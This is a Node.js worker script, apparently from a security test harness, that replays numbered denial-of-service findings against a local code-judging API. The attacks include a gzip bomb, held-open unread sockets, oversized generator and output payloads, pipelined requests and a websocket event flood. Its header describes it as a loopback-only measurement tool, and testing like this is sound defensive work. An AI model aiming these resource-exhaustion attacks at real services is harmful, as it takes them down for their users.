// One attack in a thread of its own, so that what it costs itself does not hold up who measures. Loopback
// only.
import { once } from 'node:events';
import { request } from 'node:http';
import { connect } from 'node:net';
import { setTimeout as pause } from 'node:timers/promises';
import { parentPort, workerData } from 'node:worker_threads';
import { gzipSync } from 'node:zlib';
import { io } from 'socket.io-client';

const { name, url, from, durationMs, files } = workerData;
const { hostname, port, host } = new URL(url);
const JSON_TYPE = { 'content-type': 'application/json' };
const PRINTS = { language: 'c', source: 'int main(){}' };
let endsAt = 0;
let sent = 0;
const statuses = {};

/** Sends one request from this attack's own address. @returns the status and the body, read to its end */
function send(method, path, body, headers = {}) {
  return new Promise((resolve) => {
    const options = {
      hostname,
      port,
      path,
      method,
      localAddress: from,
      headers,
      timeout: 30_000,
      agent: false,
    };
    const asked = request(options, (response) => {
      const pieces = [];
      response.on('data', (piece) => pieces.push(piece));
      response.on('close', () => {
        sent += 1;
        statuses[response.statusCode] = (statuses[response.statusCode] ?? 0) + 1;
        resolve({ status: response.statusCode, text: Buffer.concat(pieces) });
      });
    });
    asked.on('timeout', () => asked.destroy());
    asked.on('error', () => {
      statuses.failed = (statuses.failed ?? 0) + 1;
      resolve({ status: 0, text: Buffer.alloc(0) });
    });
    asked.end(body);
  });
}

const post = (path, body) => send('POST', path, JSON.stringify(body), JSON_TYPE);

/** So many at a time until the attack is over; a client that is refused comes again a little later. */
async function keepDoing(atATime, once) {
  const loop = async () => {
    while (performance.now() < endsAt) {
      const answer = await once();
      if (answer?.status === 429 || answer?.status === 503 || answer?.status === 0) await pause(20);
    }
  };
  await Promise.all(Array.from({ length: atATime }, loop));
}

/** Asks and never reads the answer. */
function askUnread(head, body = '') {
  const socket = connect({ host: hostname, port: Number(port), localAddress: from });
  socket.on('error', () => {});
  socket.pause();
  socket.write(`${head}\r\nhost: ${host}\r\n\r\n${body}`);
  sent += 1;
  return socket;
}

/** Sends many requests in one piece, and reads until the connection ends. */
function askAhead(head, count) {
  return new Promise((resolve) => {
    const socket = connect({ host: hostname, port: Number(port), localAddress: from });
    socket.on('error', () => {});
    socket.on('close', () => resolve(undefined));
    socket.setTimeout(30_000, () => socket.destroy());
    socket.resume();
    socket.end(`${head}\r\nhost: ${host}\r\n\r\n`.repeat(count));
    sent += count;
  });
}

async function begin(body) {
  const { text } = await post('/api/v1/submissions', body);
  const { id } = JSON.parse(text);
  return async () => send('DELETE', `/api/v1/submissions/${id}`);
}

async function jobUntilTheEnd(body) {
  const cancel = await begin(body);
  await pause(endsAt - performance.now());
  await cancel();
}

/** By the letter of the finding that each is. `prepare` is not measured. */
const ATTACKS = {
  C: {
    prepare: () => gzipSync(`{${'\n'.repeat(16 * 1024 * 1024 - 100)}x`, { level: 9 }),
    run: (body) =>
      keepDoing(4, () =>
        send('POST', '/api/v1/submissions', body, { ...JSON_TYPE, 'content-encoding': 'gzip' }),
      ),
  },
  D: {
    run: async () => {
      const body = JSON.stringify({ clex: "S[8388600,8388600,'a']" });
      const head = `POST /api/v1/clex/generate HTTP/1.1\r\ncontent-type: application/json\r\ncontent-length: ${body.length}`;
      const unread = Array.from({ length: 100 }, () => askUnread(head, body));
      const texts = [
        'S[8388600,8388600,@CH_ALL@]',
        'F[-9223372036854775808,9223372036854775807]{400000}',
        'F[0,1]{440000}',
      ];
      let next = 0;
      await keepDoing(4, () => post('/api/v1/clex/generate', { clex: texts[next++ % texts.length] }));
      for (const socket of unread) socket.destroy();
    },
  },
  E: {
    run: () =>
      jobUntilTheEnd({
        kind: 'stress',
        reference: PRINTS,
        candidate: PRINTS,
        generator: { clex: 'S[8388600,8388600,@CH_ALL@]' },
        iterations: 100_000,
        seed: '5',
      }),
  },
  F: {
    prepare: async () => {
      const stdin = 'x'.repeat(15 * 1024 * 1024);
      const body = { kind: 'run', program: { language: 'python', source: 'print(1)' }, stdin };
      // What the attack before has left waiting may still be in the way.
      for (;;) {
        const { status, text } = await post('/api/v1/submissions', body);
        if (status === 202) return JSON.parse(text).id;
        await pause(1_000);
      }
    },
    run: async (id) => {
      const path = `/api/v1/submissions/${id}`;
      const unread = Array.from({ length: 100 }, () => askUnread(`GET ${path} HTTP/1.1`));
      await keepDoing(4, () => send('GET', path));
      for (const socket of unread) socket.destroy();
    },
  },
  J: {
    run: async () => {
      while (performance.now() < endsAt) {
        const socket = io(url, {
          transports: ['websocket'],
          reconnection: false,
          forceNew: true,
          localAddress: from,
        });
        const gone = once(socket, 'disconnect');
        socket.on('connect_error', () => socket.close());
        await Promise.race([once(socket, 'connect'), pause(1_000)]);
        while (socket.connected && performance.now() < endsAt) {
          for (let n = 0; n < 1_000 && socket.connected; n += 1, sent += 1)
            socket.emit('unsubscribe', { submissionId: 'x' });
          await pause(1);
        }
        if (socket.connected) socket.close();
        await Promise.race([gone, pause(50)]);
      }
    },
  },
  K: {
    run: () =>
      keepDoing(1, () =>
        post('/api/v1/submissions?wait=30', {
          kind: 'judge',
          program: { language: 'python', source: 'import sys;sys.stdout.write("1.0  "*3600000)' },
          tests: [{ input: '', expectedOutput: '1 '.repeat(3_600_000) }],
          checker: { type: 'floats' },
          limits: { outputLimitBytes: 64 * 1024 * 1024 },
        }),
      ),
  },
  Y: { run: () => keepDoing(2, () => askAhead('GET /health_check HTTP/1.1', 2_000)) },
  Z: {
    run: () =>
      keepDoing(1, () =>
        post('/api/v1/submissions?wait=30', {
          kind: 'run',
          program: { language: 'python', source: 'open("f.bin", "wb").truncate(60 << 20)' },
          outputFiles: ['*.bin'],
        }),
      ),
  },
  P: {
    run: async () => {
      const headers = { 'accept-encoding': 'gzip, br' };
      let next = 0;
      await keepDoing(8, () => send('GET', files[next++ % files.length], undefined, headers));
    },
  },
};

const attack = ATTACKS[name];
const prepared = await attack.prepare?.();
parentPort.postMessage('ready');
await once(parentPort, 'message');
endsAt = performance.now() + durationMs;
await attack.run(prepared);
parentPort.postMessage({ sent, statuses });
parentPort.close();
